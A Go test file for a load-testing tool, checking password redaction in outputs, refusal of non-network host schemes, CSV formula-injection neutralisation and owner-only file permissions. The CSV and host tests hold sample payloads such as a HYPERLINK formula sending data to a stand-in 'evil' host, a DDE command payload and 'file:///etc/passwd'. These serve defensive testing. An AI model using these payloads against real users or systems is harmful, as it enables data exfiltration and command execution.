package locust_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/golocust/locust"
)

// credServer counts requests and remembers whether Basic credentials
// arrived.
type credServer struct {
	*httptest.Server
	total, authed atomic.Int64
}

func newCredServer(t *testing.T) *credServer {
	s := &credServer{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.total.Add(1)
		if _, _, ok := r.BasicAuth(); ok {
			s.authed.Add(1)
		}
		if r.URL.Path == "/missing" {
			http.NotFound(w, r)
			return
		}
		_, _ = w.Write([]byte("ok"))
	}))
	t.Cleanup(s.Close)
	return s
}

type absUser struct {
	locust.HTTPUser
	abs string
}

func absClass(abs string) *locust.Class[*absUser] {
	return &locust.Class[*absUser]{
		Name: "Abs",
		New:  func() *absUser { return &absUser{abs: abs} },
		Wait: locust.Constant(20 * time.Millisecond),
		Tasks: []locust.Task[*absUser]{
			{Name: "rel", Weight: 1, Fn: func(u *absUser, ctx context.Context) error { u.Client.Get(ctx, "/"); return nil }},
			{Name: "abs", Weight: 1, Fn: func(u *absUser, ctx context.Context) error { u.Client.Get(ctx, u.abs+"/missing"); return nil }},
		},
	}
}

// A password in -H or in an absolute request URL is used for the requests
// but shows nowhere: not on the console, in the log file, the JSON, the
// CSV files or the HTML report.
func TestURLPasswordsDoNotLeak(t *testing.T) {
	srv := newCredServer(t)
	hostPW, absPW := "host-hunter2", "abs-hunter2"
	host := strings.Replace(srv.URL, "http://", "http://alice:"+hostPW+"@", 1)
	abs := strings.Replace(srv.URL, "http://", "http://bob:"+absPW+"@", 1)
	dir := t.TempDir()
	res := runMain(t, &locust.Program{Classes: []locust.UserClass{absClass(abs)}},
		"--headless", "-u", "2", "-r", "20", "-t", "1s", "-s", "5s", "-H", host, "--json", "--loglevel", "debug",
		"--csv", filepath.Join(dir, "out"), "--html", filepath.Join(dir, "report.html"), "--logfile", filepath.Join(dir, "run.log"))
	if srv.total.Load() == 0 || srv.authed.Load() != srv.total.Load() {
		t.Fatalf("the server saw %d requests, %d with credentials: the credentials must still be used", srv.total.Load(), srv.authed.Load())
	}
	places := map[string]string{"stdout": res.stdout, "stderr": res.stderr}
	files, _ := filepath.Glob(filepath.Join(dir, "*"))
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		places[filepath.Base(f)] = string(b)
	}
	for _, want := range []string{"out_stats.csv", "out_failures.csv", "report.html", "run.log"} {
		if _, ok := places[want]; !ok {
			t.Errorf("%s was not written (exit code %d, stderr %s)", want, res.code, res.stderr)
		}
	}
	for where, text := range places {
		for _, pw := range []string{hostPW, absPW} {
			if strings.Contains(text, pw) {
				i := strings.Index(text, pw)
				t.Errorf("%s shows the password %q: ...%s...", where, pw, text[max(0, i-80):min(len(text), i+40)])
			}
		}
	}
	if !strings.Contains(places["out_failures.csv"], "bob:xxxxx@") {
		t.Errorf("the absolute URL's failure is not named with the redacted URL:\n%s", places["out_failures.csv"])
	}
}

// Hosts that are not network addresses are refused by name.
func TestNonNetworkHostSchemesAreRefused(t *testing.T) {
	for _, h := range []string{"javascript://x/%0aalert(document.domain)", "file:///etc/passwd", "JavaScript://x", "data://text/html,<script>"} {
		res := runMain(t, &locust.Program{Classes: []locust.UserClass{webClass(0)}}, "--headless", "-u", "1", "-t", "1s", "-H", h)
		if res.code != locust.ExitUsage || !strings.Contains(res.stderr, "--host") || !strings.Contains(res.stderr, "not the address of a system to test") {
			t.Errorf("-H %s: exit %d, stderr:\n%s", h, res.code, res.stderr)
		}
	}
}

// Request names and error texts chosen by a target cannot become
// spreadsheet formulas; numeric columns stay numbers.
func TestCSVCellsAreNeutralised(t *testing.T) {
	payloads := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTAB", "\rCR", "bell\x07inside", "-1"}
	class := &locust.Class[*idleUser]{
		Name: "Evil",
		New:  func() *idleUser { return &idleUser{} },
		Wait: locust.Constant(time.Hour),
		Tasks: []locust.Task[*idleUser]{{Name: "record", Weight: 1, Fn: func(_ *idleUser, ctx context.Context) error {
			for _, p := range payloads {
				locust.Record(ctx, locust.Sample{Type: "GET", Name: p, Duration: time.Millisecond, Size: 1, Err: errorString(p)})
			}
			return nil
		}}},
	}
	dir := t.TempDir()
	var res runResult
	synctest.Test(t, func(t *testing.T) { // the run's second on synctest's clock: nothing waits on the network
		res = runMainQuiet(t, &locust.Program{Classes: []locust.UserClass{class}, Dir: dir},
			"--headless", "-u", "1", "-r", "1", "-t", "1s", "--csv", filepath.Join(dir, "out"))
	})
	if res.code != locust.ExitError { // the recorded failures
		t.Fatalf("exit code %d, stderr:\n%s", res.code, res.stderr)
	}
	for _, name := range []string{"out_stats.csv", "out_failures.csv", "out_stats_history.csv"} {
		f, err := os.Open(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil {
			t.Fatalf("%s does not parse: %v", name, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell == "" {
					continue
				}
				if strings.ContainsAny(cell[:1], "=+@\t\r") || cell[0] == '-' && cell != "-1" {
					t.Errorf("%s: cell %d %q starts a formula", name, i, cell)
				}
				if strings.ContainsFunc(cell, func(r rune) bool { return r < 0x20 && r != '\n' && r != '\t' }) {
					t.Errorf("%s: cell %d %q keeps a control character", name, i, cell)
				}
			}
		}
		if name == "out_stats.csv" && !strings.Contains(rowsText(rows), `'=HYPERLINK`) {
			t.Errorf("%s: the formula name is not kept as text:\n%s", name, rowsText(rows))
		}
	}
}

type errorString string

func (e errorString) Error() string { return string(e) }

func rowsText(rows [][]string) string {
	var b strings.Builder
	for _, r := range rows {
		b.WriteString(strings.Join(r, "|") + "\n")
	}
	return b.String()
}

// Output files are the owner's alone unless asked otherwise.
func TestOutputFilesAreOwnerOnly(t *testing.T) {
	srv := newRunServer(t)
	for _, tc := range []struct {
		args []string
		want os.FileMode
	}{{nil, 0o600}, {[]string{"--output-mode", "0640"}, 0o640}} {
		dir := t.TempDir()
		args := append([]string{"--headless", "-u", "1", "-r", "10", "-t", "1s", "-H", srv.URL,
			"--csv", filepath.Join(dir, "out"), "--html", filepath.Join(dir, "r.html"), "--logfile", filepath.Join(dir, "run.log")}, tc.args...)
		res := runMain(t, &locust.Program{Classes: []locust.UserClass{webClass(0)}}, args...)
		if res.code != 0 {
			t.Fatalf("exit %d: %s", res.code, res.stderr)
		}
		files, _ := filepath.Glob(filepath.Join(dir, "*"))
		if len(files) != 6 {
			t.Errorf("files %v, want 4 CSV, the report and the log", files)
		}
		for _, f := range files {
			st, err := os.Stat(f)
			if err != nil {
				t.Fatal(err)
			}
			if got := st.Mode().Perm(); got != tc.want {
				t.Errorf("%v: %s has mode %o, want %o", tc.args, filepath.Base(f), got, tc.want)
			}
		}
	}
	for _, bad := range []string{"0755", "0400", "rw", "01600"} {
		res := runMain(t, &locust.Program{Classes: []locust.UserClass{webClass(0)}}, "--headless", "-u", "1", "-t", "1s", "-H", srv.URL, "--output-mode", bad)
		if res.code != locust.ExitUsage || !strings.Contains(res.stderr, "--output-mode") {
			t.Errorf("--output-mode %s: exit %d, %s", bad, res.code, res.stderr)
		}
	}
}
